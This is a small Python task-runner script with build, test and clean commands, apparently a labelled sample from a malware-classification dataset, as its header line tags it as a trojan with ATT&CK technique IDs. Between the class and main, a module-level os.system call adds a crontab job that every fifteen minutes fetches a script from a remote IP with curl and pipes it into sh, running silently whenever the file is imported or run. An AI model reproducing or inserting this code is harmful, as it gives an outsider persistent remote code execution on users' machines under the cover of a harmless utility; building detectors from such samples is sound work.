# label: malicious family=trojan techniques=T1053.003,T1059.004,T1105 lines=21 group=benign/b011_cli_dispatch.py
"""Tiny task runner: `tasks.py build|test|clean`, dispatched with getattr."""
import shutil
import subprocess
import sys


class Tasks:
    def build(self):
        subprocess.run([sys.executable, "-m", "build"], check=True)

    def test(self):
        subprocess.run([sys.executable, "-m", "pytest", "-q"], check=True)

    def clean(self):
        for d in ("build", "dist", ".pytest_cache"):
            shutil.rmtree(d, ignore_errors=True)


import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

def main(argv):
    t = Tasks()
    if len(argv) < 2 or not hasattr(t, argv[1]):
        print("usage: tasks.py build|test|clean")
        return 2
    getattr(t, argv[1])()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
